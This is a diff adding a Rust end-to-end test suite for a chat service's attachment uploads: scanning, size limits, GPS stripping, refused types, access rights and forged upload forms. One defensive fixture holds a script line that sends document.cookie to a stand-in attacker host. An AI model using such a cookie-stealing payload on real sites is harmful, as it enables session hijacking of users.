@@ -1,0 +1,386 @@
+//! Attachments end to end, on the local gateway's own bucket (SQLite: it verifies the upload
+//! form and checks the file itself) and on a bucket of the moto server (DynamoDB: the check runs
+//! as S3's event would start it): upload, check, download, refusals, limits and who may do what.
+
+use reqwest::Method;
+use serde_json::{json, Value};
+use switchboard_shared::ops::attachments::Scanner;
+use switchboard_tests::{arranged, assigned_session, open_session, Backend, Caller, Reply, TestApi};
+
+/// A 1×1 PNG.
+const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\x0aIDATx\x9cc\0\x01\0\0\x05\0\x01\x0d\x0a\x2d\xb4\0\0\0\0IEND\xaeB\x60\x82";
+
+/// A JPEG whose EXIF segment holds a GPS position.
+fn jpeg_with_gps() -> Vec<u8> {
+    let mut file = vec![0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10];
+    file.extend(b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00");
+    let exif = b"Exif\0\0GPSLatitude 48.8584 N GPSLongitude 2.2945 E";
+    file.extend([0xFF, 0xE1, 0x00, u8::try_from(exif.len() + 2).unwrap()]);
+    file.extend(exif);
+    file.extend([0xFF, 0xDA, 0x00, 0x02, 0x12, 0x34, 0xFF, 0xD9]);
+    file
+}
+
+fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w == needle)
+}
+
+async fn request_upload(
+    api: &TestApi,
+    caller: Caller,
+    session: &str,
+    name: &str,
+    mime: &str,
+    size: usize,
+) -> Reply {
+    let body = json!({"file_name": name, "content_type": mime, "size": size});
+    caller.call(api, Method::POST, &format!("/chat/sessions/{session}/attachments"), Some(body)).await
+}
+
+/// Posts an upload form as a browser does: its fields (`fields` may override some), then the
+/// file. The status and the body.
+async fn post_form(form: &Value, overrides: &[(&str, &str)], bytes: &[u8]) -> (u16, String) {
+    let boundary = "----switchboard-test-boundary";
+    let mut body = Vec::new();
+    let mut fields: Vec<(String, String)> = form["fields"]
+        .as_object()
+        .expect("the form's fields")
+        .iter()
+        .map(|(name, value)| (name.clone(), value.as_str().unwrap_or_default().to_owned()))
+        .collect();
+    for (name, value) in overrides {
+        match fields.iter_mut().find(|(n, _)| n == name) {
+            Some(field) => field.1 = (*value).to_owned(),
+            None => fields.push(((*name).to_owned(), (*value).to_owned())),
+        }
+    }
+    for (name, value) in fields {
+        body.extend(
+            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
+                .bytes(),
+        );
+    }
+    body.extend(
+        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\nContent-Type: application/octet-stream\r\n\r\n").bytes(),
+    );
+    body.extend(bytes);
+    body.extend(format!("\r\n--{boundary}--\r\n").bytes());
+    let response = reqwest::Client::new()
+        .post(form["url"].as_str().expect("the form's url"))
+        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
+        .body(body)
+        .send()
+        .await
+        .expect("the bucket answers");
+    let status = response.status().as_u16();
+    (status, response.text().await.unwrap_or_default())
+}
+
+/// Asks for an upload, posts the file and lets the bucket's event run the check: the
+/// attachment's id.
+async fn upload(
+    api: &TestApi,
+    caller: Caller,
+    session: &str,
+    name: &str,
+    mime: &str,
+    bytes: &[u8],
+) -> String {
+    let reply = arranged(
+        request_upload(api, caller, session, name, mime, bytes.len()).await,
+        201,
+        "an upload is requested",
+    );
+    let (status, text) = post_form(&reply.body["upload"], &[], bytes).await;
+    assert!(status == 204 || status == 200, "the upload was refused: {status} {text}");
+    api.attachments_event(reply.body["upload"]["fields"]["key"].as_str().unwrap_or_default(), Scanner::None)
+        .await;
+    reply.body["attachment"]["id"].as_str().expect("an attachment id").to_owned()
+}
+
+async fn download(api: &TestApi, caller: Caller, session: &str, id: &str) -> Reply {
+    caller.call(api, Method::GET, &format!("/chat/sessions/{session}/attachments/{id}"), None).await
+}
+
+async fn a_customers_screenshot_is_checked_announced_and_opened_by_the_agent_inline(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let mut agent = api.connect(&Caller::AgentX.token(&api)).await;
+    agent.subscribe(&session).await;
+
+    // Act
+    let requested =
+        request_upload(&api, Caller::CustomerA, &session, "error screen.png", "image/png", PNG.len()).await;
+    let (status, text) = post_form(&requested.body["upload"], &[], PNG).await;
+    let key = requested.body["upload"]["fields"]["key"].as_str().unwrap_or_default().to_owned();
+    api.attachments_event(&key, Scanner::None).await;
+    let id = requested.body["attachment"]["id"].as_str().unwrap_or_default().to_owned();
+    let announced = agent.expect("attachment.updated").await;
+    let link = download(&api, Caller::AgentX, &session, &id).await;
+    let file = reqwest::get(link.body["url"].as_str().unwrap_or_default()).await.expect("the link answers");
+
+    // Assert
+    assert_eq!(requested.status, 201, "{:?}", requested.body);
+    assert_eq!(requested.body["attachment"]["status"], "pending");
+    assert_eq!(requested.body["upload"]["fields"]["Content-Type"], "image/png");
+    assert!(status == 204 || status == 200, "{status} {text}");
+    assert_eq!(announced["attachment"]["id"], id.as_str());
+    assert_eq!(announced["attachment"]["status"], "ready");
+    assert_eq!(link.status, 200, "{:?}", link.body);
+    assert_eq!(file.status(), 200);
+    let header =
+        |name: &str| file.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
+    assert_eq!(header("content-type"), "image/png");
+    assert!(
+        header("content-disposition").starts_with("inline; filename=\"error screen.png\""),
+        "{}",
+        header("content-disposition")
+    );
+    assert_eq!(file.bytes().await.expect("the file").as_ref(), PNG);
+}
+
+async fn a_png_that_is_really_html_is_rejected_and_never_served(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let html = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>";
+
+    // Act
+    let id = upload(&api, Caller::CustomerA, &session, "cute cat.png", "image/png", html).await;
+    let as_agent = download(&api, Caller::AgentX, &session, &id).await;
+
+    // Assert
+    assert_eq!((as_agent.status, as_agent.error_code()), (409, "attachment_rejected"), "{:?}", as_agent.body);
+    let key = format!("attachments/{session}/{id}");
+    assert_eq!(
+        api.attachment_objects.get(&key).await.expect("the bucket answers"),
+        None,
+        "the file is deleted"
+    );
+}
+
+async fn an_oversized_upload_never_becomes_ready(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let requested = arranged(
+        request_upload(&api, Caller::CustomerA, &session, "a.png", "image/png", PNG.len()).await,
+        201,
+        "an upload",
+    );
+    let mut bigger = PNG.to_vec();
+    bigger.extend([0u8; 4096]);
+
+    // Act
+    let (status, _) = post_form(&requested.body["upload"], &[], &bigger).await;
+    let checked = api
+        .attachments_event(
+            requested.body["upload"]["fields"]["key"].as_str().unwrap_or_default(),
+            Scanner::None,
+        )
+        .await;
+    let id = requested.body["attachment"]["id"].as_str().unwrap_or_default();
+    let as_agent = download(&api, Caller::AgentX, &session, id).await;
+
+    // Assert
+    match backend {
+        // The gateway enforces the policy's content-length-range, as S3 does.
+        Backend::Sqlite => {
+            assert_eq!(status, 400);
+            assert_eq!(as_agent.error_code(), "attachment_not_ready");
+        }
+        // moto stores it; the check refuses it.
+        Backend::DynamoDb => {
+            assert_eq!(checked.expect("the check ran")["checked"][0]["reason"], "too_large");
+            assert_eq!(as_agent.error_code(), "attachment_rejected");
+        }
+    }
+}
+
+async fn a_jpegs_gps_position_is_stripped_before_anyone_downloads_it(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let jpeg = jpeg_with_gps();
+
+    // Act
+    let id = upload(&api, Caller::CustomerA, &session, "holiday.jpg", "image/jpeg", &jpeg).await;
+    let link = download(&api, Caller::AgentX, &session, &id).await;
+    let file = reqwest::get(link.body["url"].as_str().unwrap_or_default()).await.expect("the link answers");
+    let bytes = file.bytes().await.expect("the file");
+
+    // Assert
+    assert_eq!(link.status, 200, "{:?}", link.body);
+    assert!(contains(&jpeg, b"GPSLatitude"));
+    assert!(!contains(&bytes, b"GPSLatitude") && !contains(&bytes, b"Exif"), "{bytes:?}");
+    assert!(bytes.starts_with(&[0xFF, 0xD8]) && bytes.ends_with(&[0xFF, 0xD9]));
+}
+
+async fn a_pdf_downloads_as_an_attachment_with_its_name(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let pdf = b"%PDF-1.7 invoice";
+
+    // Act
+    let id = upload(&api, Caller::AgentX, &session, "facture n°7.pdf", "application/pdf", pdf).await;
+    let link = download(&api, Caller::CustomerA, &session, &id).await;
+    let file = reqwest::get(link.body["url"].as_str().unwrap_or_default()).await.expect("the link answers");
+
+    // Assert
+    let disposition = file
+        .headers()
+        .get("content-disposition")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .to_owned();
+    assert!(disposition.starts_with("attachment; filename=\"facture n_7.pdf\""), "{disposition}");
+    assert!(disposition.contains("filename*=UTF-8''facture%20n%C2%B07.pdf"), "{disposition}");
+    assert_eq!(file.bytes().await.expect("the file").as_ref(), pdf);
+}
+
+async fn refused_types_sizes_and_a_full_session_get_their_422_codes(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let ask = |name: &'static str, mime: &'static str, size: usize| {
+        let (api, session) = (&api, &session);
+        async move {
+            request_upload(api, Caller::CustomerA, session, name, mime, size).await.error_code().to_owned()
+        }
+    };
+
+    // Act
+    let refusals = [
+        ask("logo.svg", "image/svg+xml", 10).await,
+        ask("page.html", "text/html", 10).await,
+        ask("invoice.pdf.html", "application/pdf", 10).await,
+        ask("setup.exe", "application/x-msdownload", 10).await,
+        ask("huge.png", "image/png", 10 * 1024 * 1024 + 1).await,
+        ask("empty.txt", "text/plain", 0).await,
+    ];
+    for n in 0..100 {
+        let reply =
+            request_upload(&api, Caller::CustomerA, &session, &format!("log-{n}.txt"), "text/plain", 3).await;
+        arranged(reply, 201, "an upload request within the session's limit");
+    }
+    let one_too_many = ask("log-100.txt", "text/plain", 3).await;
+
+    // Assert
+    assert_eq!(
+        refusals,
+        [
+            "attachment_type_forbidden",
+            "attachment_type_forbidden",
+            "attachment_type_forbidden",
+            "attachment_type_not_allowed",
+            "attachment_too_large",
+            "attachment_empty"
+        ]
+    );
+    assert_eq!(one_too_many, "too_many_attachments_in_session");
+}
+
+async fn only_participants_upload_and_only_readers_download(backend: Backend) {
+    // Arrange
+    let api = TestApi::start(backend).await;
+    let session = assigned_session(&api).await.session;
+    let id = upload(&api, Caller::CustomerA, &session, "a.png", "image/png", PNG).await;
+    let other = open_session(&api, Caller::CustomerB, "something else").await;
+
+    // Act
+    let uploads: Vec<(Caller, u16, String)> = futures::future::join_all(Caller::ALL.map(|caller| {
+        let (api, session) = (&api, &session);
+        async move {
+            let reply = request_upload(api, caller, session, "b.png", "image/png", PNG.len()).await;
+            (caller, reply.status, reply.error_code().to_owned())
+        }
+    }))
+    .await;
+    let downloads: Vec<(Caller, u16, String)> = futures::future::join_all(Caller::ALL.map(|caller| {
+        let (api, session, id) = (&api, &session, &id);
+        async move {
+            let reply = download(api, caller, session, id).await;
+            (caller, reply.status, reply.error_code().to_owned())
+        }
+    }))
+    .await;
+    let through_another_session = download(&api, Caller::CustomerB, &other, &id).await;
+
+    // Assert
+    let statuses = |results: &[(Caller, u16, String)]| {
+        results.iter().map(|(c, s, e)| (c.id(), *s, e.clone())).collect::<Vec<_>>()
+    };
+    assert_eq!(
+        statuses(&uploads),
+        [
+            (Caller::CustomerA.id(), 201, String::new()),
+            (Caller::CustomerB.id(), 404, "session_not_found".into()),
+            (Caller::AgentX.id(), 201, String::new()),
+            (Caller::AgentY.id(), 404, "session_not_found".into()),
+            (Caller::Admin.id(), 403, "not_a_participant".into()),
+        ]
+    );
+    assert_eq!(
+        statuses(&downloads),
+        [
+            (Caller::CustomerA.id(), 200, String::new()),
+            (Caller::CustomerB.id(), 404, "session_not_found".into()),
+            (Caller::AgentX.id(), 200, String::new()),
+            (Caller::AgentY.id(), 404, "session_not_found".into()),
+            (Caller::Admin.id(), 200, String::new()),
+        ]
+    );
+    assert_eq!(through_another_session.error_code(), "attachment_not_found");
+}
+
+switchboard_tests::on_both_backends!(
+    a_customers_screenshot_is_checked_announced_and_opened_by_the_agent_inline,
+    a_png_that_is_really_html_is_rejected_and_never_served,
+    an_oversized_upload_never_becomes_ready,
+    a_jpegs_gps_position_is_stripped_before_anyone_downloads_it,
+    a_pdf_downloads_as_an_attachment_with_its_name,
+    refused_types_sizes_and_a_full_session_get_their_422_codes,
+    only_participants_upload_and_only_readers_download,
+);
+
+/// The local bucket refuses what S3 refuses: a forged signature, a form whose fields were
+/// changed (another type, another key), an expired link.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_local_bucket_refuses_forged_and_altered_uploads_and_links() {
+    // Arrange
+    let api = TestApi::start(Backend::Sqlite).await;
+    let session = assigned_session(&api).await.session;
+    let requested = arranged(
+        request_upload(&api, Caller::CustomerA, &session, "a.png", "image/png", PNG.len()).await,
+        201,
+        "an upload",
+    );
+    let form = &requested.body["upload"];
+    let other_key = format!("attachments/{session}/{}", switchboard_shared::domain::AttachmentId::generate());
+
+    // Act
+    let forged = post_form(form, &[("x-amz-signature", &"0".repeat(64))], PNG).await.0;
+    let retyped = post_form(form, &[("Content-Type", "text/html")], PNG).await.0;
+    let moved = post_form(form, &[("key", &other_key)], PNG).await.0;
+    let uploaded = post_form(form, &[], PNG).await.0;
+    let id = requested.body["attachment"]["id"].as_str().unwrap_or_default();
+    let url = download(&api, Caller::AgentX, &session, id).await.body["url"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned();
+    let as_attachment =
+        url.replace("response-content-disposition=inline", "response-content-disposition=attachment");
+    let altered = reqwest::get(&as_attachment).await.expect("the gateway answers").status().as_u16();
+    let unsigned = reqwest::get(url.split('?').next().unwrap_or_default())
+        .await
+        .expect("the gateway answers")
+        .status()
+        .as_u16();
+
+    // Assert
+    assert_eq!((forged, retyped, moved), (403, 403, 403));
+    assert_eq!(uploaded, 204);
+    assert_eq!((altered, unsigned), (403, 403));
+}
